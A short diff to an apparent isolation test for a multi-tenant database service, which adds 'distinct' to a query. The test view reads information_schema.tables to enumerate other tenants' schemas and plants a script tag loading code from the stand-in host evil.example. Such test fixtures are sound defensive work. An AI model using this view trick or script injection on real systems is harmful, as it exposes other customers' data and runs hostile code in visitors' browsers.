@@ -186,7 +186,7 @@ async def test_what_a_customer_puts_in_the_place_of_a_table_sees_nothing_of_othe
     shared.query("rename table {schema}.wp_posts to {schema}.kept_posts")
     shared.query(
         "create definer = '" + shared.schema + "' sql security invoker view {schema}.wp_posts as"
-        " select group_concat(table_schema) as ID, 'post' as post_type,"
+        " select group_concat(distinct table_schema) as ID, 'post' as post_type,"
         " '<script src=https://evil.example/x.js></script>' as post_content from information_schema.tables"
     )
     try:
